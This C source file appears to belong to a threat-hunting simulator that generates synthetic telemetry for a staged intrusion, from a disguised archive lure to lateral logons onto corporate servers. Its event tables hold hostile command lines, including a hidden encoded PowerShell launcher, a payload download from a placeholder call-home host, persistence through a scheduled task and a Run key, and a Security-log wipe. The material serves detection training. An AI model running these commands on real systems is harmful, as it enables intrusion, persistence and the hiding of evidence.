/* The story: an archive comes by mail and is opened with an old archiver; a script in it loads a library that calls home,
 * looks around, stays, and goes on to the jump host and from there towards the servers. */
#include "config.h"
#include "sim/hunt_life.h"

#include <string.h>

#include "core/auto.h"
#include "core/isotime.h"

#define STORY_AGE (9 * 3600 * ISOTIME_TICKS_PER_SECOND) /* it began so long before the tenant was started */
#define RAR "\"WinRAR.exe\" \"C:\\Users\\{u}\\Downloads\\" HUNT_LURE "\""
#define RARTEMP "C:\\Users\\{u}\\AppData\\Local\\Temp\\Rar$DIa8120.31\\"
#define DAT "rundll32.exe C:\\Users\\Public\\cfg.dat,Start"

struct step {
	unsigned second; /* of the story */
	const char *file, *command, *parent;
};

static const struct step steps[] = {
	{ 0, "WinRAR.exe", RAR, "explorer.exe" },
	{ 41, "cmd.exe", "cmd.exe /c \"" RARTEMP "invoice_4711.pdf .cmd\"", "WinRAR.exe" },
	{ 42, "powershell.exe", "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAG4AZQB3AC0AbwBiAGoA", "cmd.exe" },
	{ 57, "rundll32.exe", DAT, "powershell.exe" },
	{ 188, "ipconfig.exe", "ipconfig /all", "rundll32.exe" },
	{ 190, "whoami.exe", "whoami /groups", "rundll32.exe" },
	{ 204, "net.exe", "net group \"Domain Admins\" /domain", "rundll32.exe" },
	{ 205, "net1.exe", "net1 group \"Domain Admins\" /domain", "net.exe" },
	{ 216, "nltest.exe", "nltest /domain_trusts", "rundll32.exe" },
	{ 305, "schtasks.exe", "schtasks /create /sc minute /mo 30 /tn \"Updater\" /tr \"" DAT "\" /f", "rundll32.exe" },
	{ 4300, "mstsc.exe", "mstsc.exe /v:it-jump-01", "rundll32.exe" },
	{ 5100, "wevtutil.exe", "wevtutil cl Security", "rundll32.exe" },
};

/* What the processes did besides. */
static const struct {
	unsigned second;
	const char *by; /* its file */
	enum hunt_kind kind;
	const char *action, *name, *folder, *data;
} doings[] = {
	{ 0, "WinRAR.exe", HUNT_FILE, "FileCreated", "invoice_4711.pdf .cmd", RARTEMP, NULL },
	{ 43, "powershell.exe", HUNT_IMAGE, "ImageLoaded", "amsi.dll", "C:\\Windows\\System32\\", NULL },
	{ 44, "powershell.exe", HUNT_OTHER, "PowerShellCommand", NULL, NULL, "{\"Command\":\"Invoke-Expression\"}" },
	{ 51, "powershell.exe", HUNT_FILE, "FileCreated", "cfg.dat", "C:\\Users\\Public\\",
		"https://" HUNT_CALL_HOME_HOST "/cfg.dat" },
	{ 58, "rundll32.exe", HUNT_IMAGE, "ImageLoaded", "cfg.dat", "C:\\Users\\Public\\", NULL },
	{ 60, "rundll32.exe", HUNT_OTHER, "DnsQueryResponse", NULL, NULL,
		"{\"DnsQueryString\":\"" HUNT_CALL_HOME_HOST "\",\"DnsQueryResult\":\"" HUNT_CALL_HOME_IP "\"}" },
	{ 300, "rundll32.exe", HUNT_REGISTRY, "RegistryValueSet", "Updater",
		"HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", DAT },
	{ 306, "schtasks.exe", HUNT_OTHER, "ScheduledTaskCreated", NULL, NULL, "{\"TaskName\":\"\\\\Updater\"}" },
	{ 620, "rundll32.exe", HUNT_OTHER, "OpenProcessApiCall", "lsass.exe", "C:\\Windows\\System32\\",
		"{\"DesiredAccess\":2097151}" },
	{ 641, "rundll32.exe", HUNT_FILE, "FileCreated", "debug.bin", "C:\\Users\\Public\\", NULL },
	{ 5101, "wevtutil.exe", HUNT_OTHER, "SecurityLogCleared", NULL, NULL, NULL },
	{ 7200, "rundll32.exe", HUNT_OTHER, "AntivirusDetection", "cfg.dat", "C:\\Users\\Public\\",
		"{\"ThreatName\":\"Trojan:Win64/Loadcfg.A\",\"WasRemediated\":false}" },
};

int64_t hunt_story_time(const struct hunt_maker *maker, unsigned second)
{
	return maker->now - STORY_AGE + second * ISOTIME_TICKS_PER_SECOND + 1234567;
}

struct tale {
	struct hunt_maker *maker;
	hunt_listener *listener;
	const struct machine *machine;
	struct hunt_process explorer, processes[G_N_ELEMENTS(steps)];
};

static const struct hunt_process *process_of(const struct tale *tale, const char *file)
{
	for (size_t n = 0; n < G_N_ELEMENTS(steps); n++)
		if (strcmp(steps[n].file, file) == 0)
			return &tale->processes[n];
	return &tale->explorer;
}

static void tell_lure(struct tale *tale)
{
	struct hunt_process mail = { .program = hunt_program("outlook.exe"), .command = "\"OUTLOOK.EXE\"", .id = 5120,
		.created = hunt_story_time(tale->maker, 0) - ISOTIME_TICKS_PER_DAY / 8, .account = tale->machine->account,
		.parent = &tale->explorer };
	AUTO(g_free) char *folder = hunt_text("C:\\Users\\{u}\\Downloads\\", tale->machine->account, 0);
	struct hunt_event event = { .kind = HUNT_FILE, .machine = tale->machine, .by = &mail, .action = "FileCreated",
		.name = HUNT_LURE, .folder = folder, .time = hunt_story_time(tale->maker, 0) - 95 * ISOTIME_TICKS_PER_SECOND };

	tale->listener(tale->maker, &event);
}

static void tell_steps(struct tale *tale)
{
	for (size_t n = 0; n < G_N_ELEMENTS(steps); n++) {
		struct hunt_event event = { .kind = HUNT_PROCESS, .action = "ProcessCreated", .machine = tale->machine,
			.process = &tale->processes[n], .by = tale->processes[n].parent, .time = tale->processes[n].created };

		tale->listener(tale->maker, &event);
	}
	for (size_t n = 0; n < G_N_ELEMENTS(doings); n++) {
		AUTO(g_free) char *folder = doings[n].folder != NULL ? hunt_text(doings[n].folder, tale->machine->account, 0) : NULL;
		struct hunt_event event = { .kind = doings[n].kind, .action = doings[n].action, .machine = tale->machine,
			.by = process_of(tale, doings[n].by), .name = doings[n].name, .folder = folder, .data = doings[n].data,
			.time = hunt_story_time(tale->maker, doings[n].second) };

		tale->listener(tale->maker, &event);
	}
}

static void tell_calls(struct tale *tale)
{
	for (unsigned n = 0; n < 12; n++) {
		struct hunt_event event = { .kind = HUNT_CONNECTION, .action = "ConnectionSuccess", .machine = tale->machine,
			.by = process_of(tale, n == 0 ? "powershell.exe" : "rundll32.exe"), .name = HUNT_CALL_HOME_HOST,
			.folder = HUNT_CALL_HOME_IP, .port = 443, .time = hunt_story_time(tale->maker, 45 + 300 * n) };

		tale->listener(tale->maker, &event);
	}
}

/* From the laptop to the jump host, and from there at two servers. */
static void tell_logons(struct tale *tale)
{
	const struct machine *jump = hunt_jump_host(tale->maker->tenant);
	struct hunt_event event = { .kind = HUNT_LOGON, .action = "LogonSuccess", .machine = jump, .peer = tale->machine,
		.account = HUNT_JUMP_ACCOUNT, .logon_type = "RemoteInteractive", .time = hunt_story_time(tale->maker, 4311) };

	if (jump == NULL)
		return;
	tale->listener(tale->maker, &event);
	event.peer = jump;
	event.logon_type = "Network";
	for (unsigned n = 0; n < 2; n++) {
		AUTO(g_free) char *name = g_strdup_printf("srv-app-%03u.corp.contoso.com", n);

		event.machine = tenant_find(tale->maker->tenant, name);
		if (event.machine == NULL)
			continue;
		for (unsigned tries = 0; tries < 3; tries++) {
			event.action = tries == 2 && n == 0 ? "LogonSuccess" : "LogonFailed";
			event.time = hunt_story_time(tale->maker, 4500 + 60 * n + tries);
			tale->listener(tale->maker, &event);
		}
	}
}

void hunt_tell_story(struct hunt_maker *maker, hunt_listener *listener, const struct machine *machine)
{
	struct tale tale = { .maker = maker, .listener = listener, .machine = machine };
	AUTO(g_ptr_array_unref) GPtrArray *commands = g_ptr_array_new_with_free_func(g_free);

	tale.explorer = (struct hunt_process){ .program = hunt_program("explorer.exe"), .command = "C:\\Windows\\Explorer.EXE",
		.id = 4711, .created = hunt_story_time(maker, 0) - ISOTIME_TICKS_PER_DAY / 6, .account = machine->account };
	for (size_t n = 0; n < G_N_ELEMENTS(steps); n++) {
		g_ptr_array_add(commands, hunt_text(steps[n].command, machine->account, 0));
		tale.processes[n] = (struct hunt_process){ .program = hunt_program(steps[n].file), .id = 9000 + 12 * (int64_t)n,
			.command = commands->pdata[n], .created = hunt_story_time(maker, steps[n].second), .account = machine->account,
			.parent = process_of(&tale, steps[n].parent) };
	}
	tell_lure(&tale);
	tell_steps(&tale);
	tell_calls(&tale);
	tell_logons(&tale);
}
